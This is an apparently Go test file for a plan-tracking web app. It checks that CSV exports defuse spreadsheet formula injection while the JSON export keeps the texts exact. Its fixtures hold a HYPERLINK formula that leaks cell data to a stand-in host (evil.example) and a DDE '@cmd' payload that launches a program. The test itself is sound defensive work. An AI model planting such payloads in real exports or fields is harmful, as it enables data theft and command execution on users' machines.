package web_test

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/ogptracker/ogptracker/app/model"
	"github.com/ogptracker/ogptracker/app/transfer"
)

// A title that a spreadsheet program would run as a formula is exported
// as text in the CSV downloads (OWASP: a leading single quote), and
// exactly as entered in the plan's JSON download.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Details")`
	ds := &model.Dataset{Format: model.DatasetFormat, Plans: []model.PlanRecord{{
		Ref: "INJ-1", Jurisdiction: model.T("en", "Testland"), Title: model.T("en", "Formulas"), Status: model.PlanImplementation,
		Start: model.MustDate("2024-01"), End: model.MustDate("2025-12"),
		Commitments: []model.CommitmentRecord{{
			Ref: "INJ-1/1", Code: "1", Title: model.Text{"en": hyperlink, "zh-TW": "+SUM(1,2)"},
			Description: model.Text{"en": "@cmd|' /C calc'!A0"}, Start: model.MustDate("2024-01"), End: model.MustDate("2025-12"),
			Milestones: []model.MilestoneRecord{
				{Ref: "1", Title: model.Text{"en": "-2+3", "zh-TW": "\t=1+1"}, Status: model.MilestoneNotStarted, Weight: 1},
				{Ref: "2", Title: model.Text{"en": "\r=1+1"}, Status: model.MilestoneNotStarted, Weight: 1},
				{Ref: "3", Title: model.Text{"en": "Safe = text, 1+1"}, Status: model.MilestoneNotStarted, Weight: 1},
			},
		}},
	}}}
	srv := newServerWith(t, time.Date(2024, 6, 1, 0, 0, 0, 0, taipei), ds)

	_, body := get(t, srv, "/export/commitments.csv?plan=all")
	var c map[string]string
	for _, r := range readCSV(t, []byte(body)) {
		if r["Commitment Unique Identifier"] == "INJ-1/1" {
			c = r
		}
	}
	if c == nil {
		t.Fatal("no row for INJ-1/1")
	}
	for col, want := range map[string]string{"Commitment Title": "'" + hyperlink, "Commitment Title (zh-TW)": "'+SUM(1,2)",
		"Full Text": "'@cmd|' /C calc'!A0", "Commitment Number": "1"} {
		if c[col] != want {
			t.Errorf("commitments.csv, %s: %q, want %q", col, c[col], want)
		}
	}

	_, body = get(t, srv, "/export/milestones.csv?plan=all")
	want := map[string][2]string{"1": {"'-2+3", "'\t=1+1"}, "2": {"'\r=1+1", ""}, "3": {"Safe = text, 1+1", ""}}
	seen := 0
	for _, m := range readCSV(t, []byte(body)) {
		if m["Commitment Unique Identifier"] != "INJ-1/1" {
			continue
		}
		seen++
		w := want[m["Milestone"]]
		if m["Milestone Title"] != w[0] || m["Milestone Title (zh-TW)"] != w[1] {
			t.Errorf("milestones.csv, milestone %s: %q, %q; want %q, %q", m["Milestone"], m["Milestone Title"], m["Milestone Title (zh-TW)"], w[0], w[1])
		}
	}
	if seen != 3 {
		t.Errorf("%d milestones of INJ-1/1 in milestones.csv, want 3", seen)
	}

	// The JSON download keeps every text exactly.
	_, body = get(t, srv, "/export/plan-2.json")
	got, err := transfer.ReadJSON(bytes.NewReader([]byte(body)))
	if err != nil || len(got.Plans) != 1 || got.Plans[0].Ref != "INJ-1" {
		t.Fatalf("plan-2.json: %v %s", err, body[:min(len(body), 200)])
	}
	gc := got.Plans[0].Commitments[0]
	if gc.Title["en"] != hyperlink || gc.Title["zh-TW"] != "+SUM(1,2)" || gc.Milestones[0].Title["zh-TW"] != "\t=1+1" ||
		gc.Milestones[1].Title["en"] != "\r=1+1" || !strings.HasPrefix(gc.Description["en"], "@") {
		t.Errorf("the JSON download changed the texts: %+v", gc)
	}
}
